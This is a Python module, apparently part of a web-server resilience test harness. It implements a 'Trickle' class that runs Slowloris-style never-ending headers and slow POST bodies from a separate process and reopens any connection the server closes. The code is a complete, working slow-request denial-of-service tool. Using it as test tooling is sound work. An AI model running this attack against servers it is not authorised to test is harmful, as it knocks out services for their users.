"""Slow clients that trickle bytes, from a process of their own."""

from __future__ import annotations

import multiprocessing
import socket
from multiprocessing.sharedctypes import Synchronized
from multiprocessing.synchronize import Event
from urllib.parse import urlsplit

READY_TIMEOUT = 10  # seconds for slow clients to open their connections


class Trickle:
    """Slow clients in a process of their own, so the attacker's work never
    slows the client that measures: `heads` connections sending headers that
    never end and `bodies` sending a body far slower than its Content-Length
    promises, one byte per connection every `every` seconds (spread over the
    interval, as independent clients would). Connections the server closes
    are opened again, so the pressure holds until `off()`.

        with Trickle(url, heads=200, bodies=50) as attack:
            attack.on(); ...; attack.off()
    """

    def __init__(self, base_url: str, heads: int, bodies: int, every: float = 1.0) -> None:
        parts = urlsplit(base_url)
        address = (parts.hostname or "127.0.0.1", parts.port or 80)
        context = multiprocessing.get_context("spawn")  # no fork of a threaded process
        self._attack, self._holding, self._idle, self._stop = (context.Event() for _ in range(4))
        self._opened = context.Value("i", 0)
        self._process = context.Process(
            target=_trickle, daemon=True,
            args=(address, [_HEAD] * heads + [_BODY] * bodies, every, self._attack,
                  self._holding, self._idle, self._stop, self._opened))

    @property
    def opened(self) -> int:
        return int(self._opened.value)

    def __enter__(self) -> Trickle:
        self._process.start()  # started once: its start-up is not part of any phase
        if not self._idle.wait(30):
            raise RuntimeError("the slow-client process did not start")
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._process.join(10)
        if self._process.is_alive():
            self._process.kill()

    def on(self) -> None:
        """Open every connection; return once they are open, or after READY_TIMEOUT
        if the server stops taking them (the attack is on either way)."""
        self._attack.set()
        self._holding.wait(READY_TIMEOUT)

    def off(self) -> None:
        """Close every connection; return once they are closed."""
        self._attack.clear()
        self._idle.wait(READY_TIMEOUT)


_HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "
_BODY = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"


def _trickle(address: tuple[str, int], heads: list[bytes], every: float, attack: Event,
             holding: Event, idle: Event, stop: Event, opened: Synchronized) -> None:
    live: dict[int, socket.socket] = {}  # index in `heads` -> its connection

    def open_missing() -> None:
        for slot, head in enumerate(heads):
            if slot in live or not attack.is_set() or stop.is_set():
                continue
            try:
                conn = socket.create_connection(address, timeout=1)
                conn.sendall(head)
            except OSError:
                continue
            live[slot] = conn
            opened.value += 1

    def close_all() -> None:
        while live:
            live.popitem()[1].close()

    while not stop.is_set():
        if not attack.is_set():
            close_all()
            holding.clear()
            idle.set()
            stop.wait(0.01)
            continue
        idle.clear()
        open_missing()
        holding.set()
        for slot in list(live):
            try:
                live[slot].send(b"a")
            except OSError:  # answered (408) or closed: open it again next round
                live.pop(slot).close()
            if stop.wait(every / max(1, len(heads))) or not attack.is_set():
                break
    close_all()
